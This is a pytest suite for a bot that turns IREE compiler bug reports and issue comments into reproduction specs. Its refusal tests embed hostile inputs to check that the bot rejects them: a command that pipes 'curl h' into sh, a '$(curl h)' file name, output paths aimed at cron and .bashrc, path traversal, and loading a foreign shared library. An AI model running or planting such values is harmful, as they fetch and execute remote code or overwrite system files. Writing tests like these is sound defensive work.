"""Whole reports: which sides, what they are held against, what is asked, which comment counts."""

import pytest

from bot.intake import Comment
from bot.intake.result import Intake, QuestionCode, RefusalCode
from runners.contract import ReproSpec
from tests.intake.reports import COMPILE, EXPECTED, MLIR, PROGRAM, RELEASE, RUN, WHOLE, asked, block, read, reasons, refused, report

VMVX = COMPILE.replace("llvm-cpu", "vmvx").replace("add.vmfb", "b.vmfb")
RUN_B = RUN.replace("add.vmfb", "b.vmfb")
GOLDEN = report(EXPECTED, RELEASE)


def ready(*parts: str) -> ReproSpec:
    intake = read(report(*parts))
    assert isinstance(intake.spec, ReproSpec), reasons(intake)
    return intake.spec


def sides(intake: Intake) -> dict[str, list[str]]:
    return {variant.name: list(variant.compile.flags) for variant in intake.spec.variants}


def how(intake: Intake, field: str) -> str:
    return next(origin.how for origin in intake.provenance if origin.field == field)


def test_a_report_that_lacks_nothing() -> None:
    spec = ready(WHOLE)
    assert spec.program.text == MLIR
    assert (spec.program.kind, spec.program.name) == ("inline", "add.mlir")
    assert [variant.model_dump() for variant in spec.variants] == [
        {
            "name": "A",
            "iree_version": "3.13.0",
            "compile": {"flags": ("--iree-hal-target-backends=llvm-cpu",)},
            "run": {"function": "add", "device": "local-task", "flags": ()},
            "program": None,
            "commit": None,
        }
    ]
    assert [(one.kind, one.shape, one.dtype, one.value) for one in spec.inputs] == [
        ("values", (4,), "f32", (1, 2, 3, 4)),
        ("values", (4,), "f32", (5, 6, 7, 8)),
    ]
    assert [(one.index, one.shape, one.values, one.digits) for one in spec.expectation.values] == [(0, (4,), (6, 8, 10, 12), 6)]
    assert spec.runner.labels == ("cpu",)


# Sides


@pytest.mark.parametrize(
    ("text", "flags"),
    [
        pytest.param(block(COMPILE, RUN, VMVX, RUN_B), {"A": "llvm-cpu", "B": "vmvx"}, id="two builds in one block"),
        pytest.param(report("**CPU**", block(COMPILE, RUN), "**VMVX**", block(VMVX, RUN_B)), {"A": "llvm-cpu", "B": "vmvx"}, id="two blocks"),
        pytest.param(block(COMPILE, VMVX, RUN, RUN_B), {"A": "llvm-cpu", "B": "vmvx"}, id="compiled first, run later"),
        pytest.param(block(COMPILE, VMVX, RUN_B, RUN), {"A": "llvm-cpu", "B": "vmvx"}, id="run the other way round"),
        pytest.param(block(COMPILE, RUN, VMVX.replace("b.vmfb", "add.vmfb"), RUN), {"A": "llvm-cpu", "B": "vmvx"}, id="both written to one file"),
        pytest.param(block(COMPILE, VMVX, RUN), {"A": "llvm-cpu", "B": "vmvx"}, id="one without a run of its own"),
        pytest.param(block(COMPILE, RUN, COMPILE, RUN), None, id="the same twice"),
        pytest.param(block(COMPILE.replace(" -o add.vmfb", "") + " | " + RUN.replace("add.vmfb", "-")), None, id="piped"),
        pytest.param(block(COMPILE.replace(" -o add.vmfb", ""), RUN), None, id="without an output"),
        pytest.param(block(COMPILE, RUN.replace("add.vmfb", "other.vmfb")), None, id="run under another name"),
        pytest.param(block("iree-compile --version", "iree-run-module --list_devices", COMPILE, RUN), None, id="after questions to the tools"),
        pytest.param(block(COMPILE.replace("-o", "--compile-to=flow -o"), COMPILE, RUN), None, id="after a compilation half-way"),
        pytest.param(report("I use `iree-compile --iree-opt-level=O3`.", block(COMPILE, RUN)), None, id="a command that is only spoken of"),
    ],
)
def test_the_sides_of_a_report(text: str, flags: dict[str, str] | None) -> None:
    spec = ready(PROGRAM, text, GOLDEN if flags is None else RELEASE)
    assert {variant.name: variant.compile.flags[0].partition("=")[2] for variant in spec.variants} == (flags or {"A": "llvm-cpu"})
    assert spec.expectation.kind == ("golden_values" if flags is None else "variants_agree")


@pytest.mark.parametrize(
    ("words", "b"),
    [
        ("If I add `--iree-opt-level=O3` and re-run, the result becomes right.", ["--iree-hal-target-backends=llvm-cpu", "--iree-opt-level=O3"]),
        ("Now remove `--iree-hal-target-backends=llvm-cpu` and add `--iree-hal-target-backends=vmvx`, run again.", ["--iree-hal-target-backends=vmvx"]),
        ("With and without `--iree-opt-level=O3` the values differ.", ["--iree-hal-target-backends=llvm-cpu", "--iree-opt-level=O3"]),
    ],
)
def test_the_other_side_in_words(words: str, b: list[str]) -> None:
    intake = read(report(PROGRAM, block(COMPILE, RUN), words, RELEASE))
    assert intake.status == "ready"
    assert sides(intake) == {"A": ["--iree-hal-target-backends=llvm-cpu"], "B": b}
    assert how(intake, "variants.B.compile.flags") == "edited"
    assert intake.spec.expectation is not None
    assert intake.spec.expectation.kind == "variants_agree"


def test_the_other_side_of_a_run_in_words() -> None:
    spec = ready(PROGRAM, block(COMPILE, RUN), "With `--task_topology_group_count=1` the values differ.", RELEASE)
    assert [variant.run.flags for variant in spec.variants] == [(), ("--task_topology_group_count=1",)]


def test_an_edit_that_changes_nothing_that_counts_makes_no_side() -> None:
    spec = ready(PROGRAM, block(COMPILE, RUN), "With `--mlir-print-ir-after-all` it passes.", GOLDEN)
    assert len(spec.variants) == 1


def test_commands_for_both_sides_need_no_words() -> None:
    intake = read(report(PROGRAM, block(COMPILE, RUN, VMVX, RUN_B), "With `--iree-opt-level=O3` it becomes right.", RELEASE))
    assert [len(flags) for flags in sides(intake).values()] == [1, 1]


def test_right_in_one_release_and_wrong_in_another() -> None:
    spec = ready(PROGRAM, block(COMPILE, RUN), "This works in 3.8.0, broken in 3.9.0.")
    assert [variant.iree_version for variant in spec.variants] == ["3.8.0", "3.9.0"]
    assert spec.expectation.kind == "variants_agree"


def test_two_programs() -> None:
    good, bad = PROGRAM, PROGRAM.replace("addf", "subf")
    lines = [line.replace("add.", name + ".") for name in ("good", "bad") for line in (COMPILE, RUN)]
    spec = ready("good.mlir:", good, "bad.mlir:", bad, block(*lines), RELEASE)
    assert (spec.program.name, spec.variants[0].program) == ("good.mlir", None)
    assert spec.variants[1].program is not None
    assert spec.variants[1].program.text == MLIR.replace("addf", "subf")


# What the outputs are held against


@pytest.mark.parametrize(
    ("text", "run", "kind"),
    [
        (EXPECTED, RUN, "golden_values"),
        ("", f"{RUN} --expected_output=4xf32=2", "golden_values"),
        ("https://h.org/y.npy", f"{RUN} --expected_output=@y.npy", "golden_file"),
        ("Reference: https://h.org/ref.npy", RUN, "golden_file"),
        ("What I get: https://h.org/out.npy\n\nReference: https://h.org/ref.npy", f"{RUN} --output=@out.npy", "golden_file"),
        ("The result changes from run to run.", RUN, "repeat_agree"),
        ("It is non-deterministic.", RUN, "repeat_agree"),
    ],
)
def test_what_the_outputs_are_held_against(text: str, run: str, kind: str) -> None:
    assert ready(PROGRAM, block(COMPILE, run), text, RELEASE).expectation.kind == kind


def test_golden_values_and_files_are_numbered_by_output() -> None:
    run = f"{RUN} --expected_output='(ignored)' --expected_output=2x2xi8=1 --expected_output=@y.npy"
    expectation = ready(PROGRAM, block(COMPILE, run), "https://h.org/y.npy", RELEASE).expectation
    assert [(one.index, one.values) for one in expectation.values] == [(1, (1, 1, 1, 1))]
    assert [(one.index, one.file) for one in expectation.files] == [(2, "y.npy")]


def test_a_print_that_is_cut_is_compared_as_far_as_it_goes() -> None:
    spec = ready(PROGRAM, block(COMPILE, RUN), EXPECTED.replace("6 8 10 12", "6 8..."), RELEASE)
    assert spec.expectation.values[0].values == (6, 8)


def test_two_sides_may_both_be_held_against_golden_values() -> None:
    spec = ready(PROGRAM, block(COMPILE, RUN, VMVX, RUN_B), GOLDEN)
    assert (len(spec.variants), spec.expectation.kind) == (2, "golden_values")


# Function, device, inputs


def test_the_only_public_function_is_the_one_that_is_called() -> None:
    intake = read(WHOLE.replace(" --function=add", ""))
    assert [variant.run.function for variant in intake.spec.variants] == ["add"]


@pytest.mark.parametrize(("backend", "device"), [("llvm-cpu", "local-task"), ("vmvx", "local-task"), ("cuda", "cuda"), ("rocm", "hip"), ("vulkan", "vulkan")])
def test_without_a_device_it_is_that_of_the_target(backend: str, device: str) -> None:
    intake = read(WHOLE.replace(" --device=local-task", "").replace("llvm-cpu", backend))
    assert [variant.run.device for variant in intake.spec.variants] == [device]
    assert how(intake, "variants.A.run.device") == "default"


def test_a_scalar_has_the_type_of_its_argument() -> None:
    text = WHOLE.replace("%b: tensor<4xf32>", "%b: i64").replace('"4xf32=5 6 7 8"', "5")
    one = read(text).spec.inputs[1]
    assert (one.kind, one.shape, one.dtype, one.value) == ("values", (), "i64", (5,))


def test_a_splat_is_kept_and_pointed_out() -> None:
    intake = read(WHOLE.replace("4xf32=1 2 3 4", "4xf32=1"))
    assert [(one.kind, one.value) for one in intake.spec.inputs] == [("splat", 1.0), ("values", (5, 6, 7, 8))]
    assert any("Input 0 is one value everywhere" in warning.text for warning in intake.warnings)


def test_a_shape_alone_is_zeros() -> None:
    assert read(WHOLE.replace("4xf32=1 2 3 4", "4xf32")).spec.inputs[0].kind == "zeros"


def test_parameters_are_files_too() -> None:
    spec = ready(WHOLE.replace("--function", "--parameters=model=/data/w.irpa --function"), "https://h.org/w.irpa")
    assert [(one.scope, one.name, one.url) for one in spec.parameters] == [("model", "w.irpa", "https://h.org/w.irpa")]
    assert [one.name for one in spec.artifacts] == ["w.irpa"]


# Questions


ELIDED = PROGRAM.replace("%a, %b :", "%a, dense_resource<w> :")
UNTYPED = PROGRAM.replace("%a: tensor<4xf32>", "%a")
TWO_FILES = "Golden: https://h/a.npy\n\nReference: https://h/b.npy"


@pytest.mark.parametrize(
    ("parts", "code", "says"),
    [
        ([PROGRAM, GOLDEN], QuestionCode.MISSING_COMMANDS, "no commands that can be read"),
        ([PROGRAM, block(RUN), GOLDEN], QuestionCode.MISSING_COMMANDS, "No command compiles this module"),
        ([PROGRAM, block(COMPILE + ' "'), GOLDEN], QuestionCode.MISSING_COMMANDS, "is not complete"),
        ([PROGRAM, block(f"for b in a*; do {COMPILE}; done"), GOLDEN], QuestionCode.MISSING_COMMANDS, "a loop or a condition"),
        ([PROGRAM, block(COMPILE.replace("llvm-cpu", "$T"), RUN), GOLDEN], QuestionCode.MISSING_COMMANDS, "a variable that the report does not set"),
        ([PROGRAM, block(COMPILE, VMVX, RUN.replace("add", "c")), GOLDEN], QuestionCode.MISSING_COMMANDS, "No command makes `c.vmfb`"),
        ([PROGRAM, block(COMPILE, RUN.replace("=add ", "=sub ")), GOLDEN], QuestionCode.MISSING_COMMANDS, "no function @sub; it has @add"),
        ([block(COMPILE, RUN), GOLDEN], QuestionCode.UNREACHABLE_PATH, "there is no link to `add.mlir`"),
        ([block(COMPILE.replace("add.mlir ", ""), RUN), GOLDEN], QuestionCode.MISSING_PROGRAM, "There is no program"),
        ([block("%0 = arith.addf %a, %b : f32"), block(COMPILE, RUN), GOLDEN], QuestionCode.INCOMPLETE_PROGRAM, "Only a piece of the program"),
        ([PROGRAM.replace("}\n", ""), block(COMPILE, RUN), GOLDEN], QuestionCode.INCOMPLETE_PROGRAM, "before its brackets are closed|Only a piece"),
        ([PROGRAM, PROGRAM.replace("addf", "subf"), block(COMPILE, RUN), GOLDEN], QuestionCode.AMBIGUOUS_VARIANTS, "Several programs are given"),
        (
            [PROGRAM.replace("%a, %b :", "%a, dense_resource<w> :"), block(COMPILE, RUN), GOLDEN],
            QuestionCode.ELIDED_CONSTANTS,
            "The values of `w` in `add.mlir`",
        ),
        ([PROGRAM, block(COMPILE, RUN.replace("4xf32=1 2 3 4", "4xf32=1 2 3")), GOLDEN], QuestionCode.MISSING_INPUTS, "3 values are given"),
        ([PROGRAM, block(COMPILE, RUN + " --input=4xf32=1"), GOLDEN], QuestionCode.MISSING_INPUTS, "takes 2 arguments, 3 inputs are given"),
        ([PROGRAM, block(COMPILE), GOLDEN], QuestionCode.MISSING_INPUTS, "takes 2 arguments, 0 inputs are given"),
        (
            [PROGRAM.replace("%a: tensor<4xf32>", "%a"), block(COMPILE, RUN.replace('"4xf32=1 2 3 4"', "5")), GOLDEN],
            QuestionCode.MISSING_INPUTS,
            "`5` has no type",
        ),
        ([PROGRAM, block(COMPILE, RUN), RELEASE], QuestionCode.MISSING_EXPECTED, "What should come out?"),
        ([PROGRAM, block(COMPILE, RUN), EXPECTED, EXPECTED.replace("12", "13"), RELEASE], QuestionCode.MISSING_EXPECTED, "they differ: which is right?"),
        ([PROGRAM, block(COMPILE, RUN), EXPECTED.replace(" 12", ""), RELEASE], QuestionCode.MISSING_EXPECTED, "3 are printed"),
        ([PROGRAM, block(COMPILE, f"{RUN} --expected_output=4xf32"), RELEASE], QuestionCode.MISSING_EXPECTED, "gives no values"),
        (
            [PROGRAM, block(COMPILE, RUN), "Golden: https://h/a.npy\n\nReference: https://h/b.npy"],
            QuestionCode.MISSING_EXPECTED,
            "Several files are called expected",
        ),
        ([PROGRAM.replace(" -> tensor<4xf32>", ""), block(COMPILE, RUN), GOLDEN], QuestionCode.MISSING_EXPECTED, "@add returns nothing"),
        ([PROGRAM, block(COMPILE, RUN.replace("local-task", "fpga")), GOLDEN], QuestionCode.UNKNOWN_DEVICE, "`fpga` is no device"),
        ([PROGRAM, block(COMPILE, RUN.replace("--device", "--device=hip --device")), GOLDEN], QuestionCode.UNKNOWN_DEVICE, "several devices"),
        ([PROGRAM, block("iree-compile add.mlir -o add.vmfb", RUN.replace("--device=local-task", "")), GOLDEN], QuestionCode.UNKNOWN_DEVICE, "on which device"),
        ([PROGRAM, block(COMPILE.replace("-o", "--iree-no-such-flag -o"), RUN), GOLDEN], QuestionCode.UNKNOWN_FLAG, "--iree-no-such-flag"),
        ([PROGRAM, block(COMPILE, RUN), EXPECTED, "IREE 3.8.0 and IREE 3.9.0"], QuestionCode.AMBIGUOUS_VARIANTS, "Several releases are named (3.8.0, 3.9.0)"),
        (
            [PROGRAM, block(COMPILE, RUN), "Perhaps add `--iree-opt-level=O3`.", RELEASE],
            QuestionCode.AMBIGUOUS_VARIANTS,
            "the same commands with `--iree-opt-level=O3`?",
        ),
        ([PROGRAM, block(COMPILE, RUN, RUN.replace("1 2 3 4", "4 3 2 1")), GOLDEN], QuestionCode.AMBIGUOUS_VARIANTS, "different inputs"),
        ([PROGRAM, block(COMPILE, RUN, VMVX, RUN_B, COMPILE.replace("-o", "--iree-opt-level=O3 -o"), RUN)], QuestionCode.AMBIGUOUS_VARIANTS, "3 ways"),
        ([PROGRAM, block("iree-opt --canonicalize add.mlir"), GOLDEN], QuestionCode.UNSUPPORTED_SOURCE, "iree-opt is not run"),
        ([PROGRAM, block("./build.sh", RUN), GOLDEN], QuestionCode.UNREACHABLE_PATH, "The script `build.sh` cannot be read"),
    ],
)
def test_what_is_missing_is_asked_for(parts: list[str], code: QuestionCode, says: str) -> None:
    intake = read(report(*parts))
    assert intake.status == "needs_info"
    assert any(question.code is code and any(one in question.text for one in says.split("|")) for question in intake.questions), intake.questions


def test_prose_alone_is_asked_for_program_and_commands_and_nothing_else() -> None:
    assert asked(read("The model is wrong since the update. Is this known?")) == {QuestionCode.MISSING_PROGRAM, QuestionCode.MISSING_COMMANDS}


def test_what_was_understood_is_shown_beside_the_questions() -> None:
    intake = read(report(PROGRAM, block(COMPILE, RUN)))
    assert asked(intake) == {QuestionCode.MISSING_EXPECTED}
    assert intake.spec.program is not None
    assert sides(intake) == {"A": ["--iree-hal-target-backends=llvm-cpu"]}
    assert len(intake.spec.inputs) == 2


def test_the_release_is_a_default_that_says_so() -> None:
    intake = read(WHOLE.replace(RELEASE, ""))
    assert intake.status == "ready"
    assert intake.spec.variants[0].iree_version == "3.13.0"
    assert how(intake, "variants.A.iree_version") == "default"


# Refusals


@pytest.mark.parametrize(
    ("old", "new", "code"),
    [
        ("-o add.vmfb", "--iree-plugin=x -o add.vmfb", RefusalCode.FLAG_NOT_ALLOWED),
        ("add.mlir ", "add.mlir @flags.txt ", RefusalCode.FLAG_NOT_ALLOWED),
        ("--function", "--flagfile=x --function", RefusalCode.FLAG_NOT_ALLOWED),
        ("llvm-cpu", "../x", RefusalCode.PATH_NOT_ALLOWED),
        ("--function", "--output=@/etc/cron.d/x --function", RefusalCode.PATH_NOT_ALLOWED),
        ("--function", "--output=+~/.bashrc --function", RefusalCode.PATH_NOT_ALLOWED),
        ("--function", "--output=@a/../../x --function", RefusalCode.PATH_NOT_ALLOWED),
        ("-o add.vmfb", "-o add.vmfb ; curl h | sh", RefusalCode.SHELL_NOT_ALLOWED),
        ("add.mlir ", "$(curl h).mlir ", RefusalCode.SHELL_NOT_ALLOWED),
        ("add.mlir ", "add.vmfb ", RefusalCode.BINARY_NOT_ALLOWED),
        ("4xf32=1 2 3 4", "@x.so", RefusalCode.BINARY_NOT_ALLOWED),
        ("%a, %b :", "%a, #hal.executable.object<{path = 1}> :", RefusalCode.PROGRAM_NOT_ALLOWED),
        (COMPILE, "https://h.org/add.vmfb", RefusalCode.BINARY_NOT_ALLOWED),
        (f"{COMPILE}\n{RUN}", RUN.replace("add.vmfb", "/opt/x.so"), RefusalCode.BINARY_NOT_ALLOWED),
    ],
)
def test_what_is_never_run(old: str, new: str, code: RefusalCode) -> None:
    assert old in WHOLE
    intake = read(WHOLE.replace(old, new, 1))
    assert intake.status == "refused"
    assert code in refused(intake)
    assert all(refusal.lines for refusal in intake.refusals)


@pytest.mark.parametrize("output", ["@y.npy", "+y.npy", "@out/y.bin", "-", ""])
def test_an_output_in_the_working_folder_is_not_needed(output: str) -> None:
    spec = ready(WHOLE.replace("--function", f"--output={output} --function"))
    assert spec.variants[0].run.flags == ()


# Comments


def comment(text: str, author: str = "reporter", association: str = "NONE", number: int = 5) -> Comment:
    return Comment(id=number, body=text, author=author, association=association)


NEWER = report(PROGRAM, block(VMVX, RUN_B))


@pytest.mark.parametrize(
    ("comments", "backend"),
    [
        pytest.param([comment(NEWER)], "vmvx", id="by the reporter"),
        pytest.param([comment(NEWER, "maintainer", "MEMBER")], "vmvx", id="by a maintainer"),
        pytest.param([comment(NEWER, "stranger")], "llvm-cpu", id="by a stranger"),
        pytest.param([comment(NEWER, "stranger", "CONTRIBUTOR")], "llvm-cpu", id="by a contributor"),
        pytest.param([comment(NEWER), comment(report(PROGRAM, block(COMPILE, RUN)), number=6)], "llvm-cpu", id="the newest counts"),
        pytest.param([comment(block(VMVX))], "llvm-cpu", id="a compilation alone is no repro"),
        pytest.param([comment(f"Does `{VMVX}` help?", "maintainer", "OWNER")], "llvm-cpu", id="a suggestion is no repro"),
        pytest.param([comment("\n".join(f"> {line}" for line in WHOLE.split("\n")) + "\n\nThanks!")], "llvm-cpu", id="what is quoted was said before"),
    ],
)
def test_the_newest_whole_repro_by_somebody_who_counts(comments: list[Comment], backend: str) -> None:
    intake = read(WHOLE, *comments)
    assert intake.status == "ready", reasons(intake)
    assert sides(intake) == {"A": [f"--iree-hal-target-backends={backend}"]}


def test_that_a_newer_repro_is_used_is_said() -> None:
    intake = read(WHOLE, comment(NEWER))
    assert [(warning.lines and warning.lines.comment_id) for warning in intake.warnings] == [5]
    assert intake.spec.source.comment_id == 5


def test_a_repro_may_be_spread_over_body_and_comments() -> None:
    intake = read(PROGRAM, comment("How do you run it?", "maintainer", "MEMBER", 4), comment(report(block(COMPILE, RUN), GOLDEN)))
    assert intake.status == "ready"
    lines = {origin.field: origin.lines and origin.lines.comment_id for origin in intake.provenance}
    assert (lines["program"], lines["variants.A.compile.flags"], lines["expectation"]) == (None, 5, 5)


def test_a_missing_command_may_come_later() -> None:
    intake = read(report(PROGRAM, block(COMPILE), GOLDEN), comment(block(RUN)))
    assert intake.status == "ready", reasons(intake)


def test_expected_values_of_other_inputs_are_not_taken_over() -> None:
    intake = read(WHOLE, comment(NEWER.replace("1 2 3 4", "9 9 9 9")))
    assert asked(intake) == {QuestionCode.MISSING_EXPECTED}


def test_a_hostile_comment_by_a_stranger_changes_nothing() -> None:
    bad = comment(block(f"{COMPILE} ; curl h | sh", RUN + " --flagfile=x"), "stranger")
    assert read(WHOLE, bad) == read(WHOLE)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(WHOLE.replace("\n", "\r\n"), id="line ends of another system"),
        pytest.param(f"<details>\n{WHOLE}\n</details>", id="folded away"),
        pytest.param(WHOLE.replace("```", "~~~"), id="tildes"),
    ],
)
def test_the_same_report_in_other_dress(text: str) -> None:
    assert read(text).spec.model_dump(exclude={"source", "digest"}) == read(WHOLE).spec.model_dump(exclude={"source", "digest"})
